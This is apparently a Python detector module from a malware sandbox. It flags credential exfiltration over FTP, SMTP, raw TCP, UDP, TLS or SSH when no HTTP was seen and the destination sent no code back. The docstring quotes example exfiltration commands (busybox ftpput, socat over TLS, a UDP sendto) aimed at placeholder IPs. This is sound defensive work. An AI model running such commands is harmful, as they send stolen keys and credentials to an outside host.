"""The protocol collected credentials left by, when it is not the sample's web or C2 channel:
ATT&CK's Exfiltration Over Alternative Protocol (T1048).

    busybox ftpput 198.51.100.200 .lst /dev/shm/.lst     → ftp-data: T1048.003
    sendto(fd, key, …, {198.51.100.99:123})              → a UDP datagram: T1048.003
    socat - OPENSSL:198.51.100.7:8443 < keys.tar         → TLS, no HTTP in it: T1048.002

What the simulated internet saw of the destination decides (`Connected.protocol`,
`BytesSunk`, `DatagramSunk`, `HttpRequested`): HTTP, plain or inside TLS, stays named by
`credentials-sent-out` alone (T1041); so does a destination that also fed code the sample ran
(a reverse shell's connection is its C2 channel). DNS names have their own detector
(dns_shape.py). Only credential material (provenance SECRET sinks) is named here: host facts
over UDP are what every metrics agent sends.
"""

from __future__ import annotations

from detonate.detect.correlations.metadata import finding
from detonate.detect.correlations.run_index import RunIndex
from detonate.detect.provenance import NETWORK, SECRET, Sink
from detonate.model.events import NetworkConnected, NetworkSent
from detonate.model.findings import Evidence, Finding
from detonate.model.netevents import (
    BytesSunk,
    Connected,
    DatagramSunk,
    HttpRequested,
    NetEvent,
)

NAME = "exfiltration"
PLAIN = frozenset({"ftp", "ftp-data", "smtp", "raw", "udp"})  # T1048.003
ENCRYPTED = frozenset({"tls", "ssh"})  # T1048.002 (when no HTTP was seen inside)
RULES = {
    "plain": "exfiltration-over-plain-protocol",
    "encrypted": "exfiltration-over-encrypted-protocol",
}

Endpoint = tuple[str, int]


def alternative_protocol_findings(index: RunIndex, sinks: list[Sink]) -> list[Finding]:
    """Findings for the credential sends whose destination spoke FTP, SMTP, raw TCP or UDP
    (plain), or TLS/SSH without HTTP (encrypted), and fed the sample no code."""
    protocols = _protocols(index.net_events)
    c2 = _code_sources(index, sinks)
    found: dict[str, list[Evidence]] = {}
    for sink in sinks:
        if sink.taint.kind != SECRET or sink.how != "sent":
            continue
        sent = index.events[sink.seq] if 0 <= sink.seq < len(index.events) else None
        if not isinstance(sent, NetworkSent):
            continue
        endpoint = (sent.address, sent.port)
        kind = _kind(protocols.get(endpoint, set()))
        if kind is None or endpoint in c2:
            continue
        seen = ", ".join(sorted(protocols[endpoint]))
        found.setdefault(kind, []).append(
            Evidence(
                description=f"credentials sent to {sink.path} over {seen}, not HTTP, and no "
                "code came from there",
                path=sink.taint.hops[0].path,
                event_ids=(sink.taint.hops[0].seq, sink.seq),
                process=index.chain(sink.pid, sink.seq),
                destination=sink.path,
            )
        )
    return [finding(RULES[kind], NAME, evidence) for kind, evidence in sorted(found.items())]


def _protocols(events: list[NetEvent]) -> dict[Endpoint, set[str]]:
    """What the simulated internet saw on each destination (as the sample addressed it)."""
    seen: dict[Endpoint, set[str]] = {}
    for event in events:
        if isinstance(event, HttpRequested):
            protocol = "http"
        elif isinstance(event, DatagramSunk):
            protocol = "udp"
        elif isinstance(event, (Connected, BytesSunk)) and event.protocol:
            protocol = event.protocol
        else:
            continue
        seen.setdefault((event.dst_ip, event.dst_port), set()).add(protocol)
    return seen


def _kind(protocols: set[str]) -> str | None:
    if not protocols or "http" in protocols:
        return None
    if protocols & ENCRYPTED:
        return "encrypted"
    if protocols <= PLAIN:
        return "plain"
    return None  # stratum, irc …: a channel of its own, not an upload


def _code_sources(index: RunIndex, sinks: list[Sink]) -> set[Endpoint]:
    """Destinations whose bytes reached an exec, a script or a shell's stdin: C2 channels."""
    sources: set[Endpoint] = set()
    for sink in sinks:
        if sink.taint.kind != NETWORK or sink.how == "sent":
            continue
        first = sink.taint.hops[0].seq
        event = index.events[first] if 0 <= first < len(index.events) else None
        if isinstance(event, NetworkConnected):
            sources.add((event.address, event.port))
    return sources
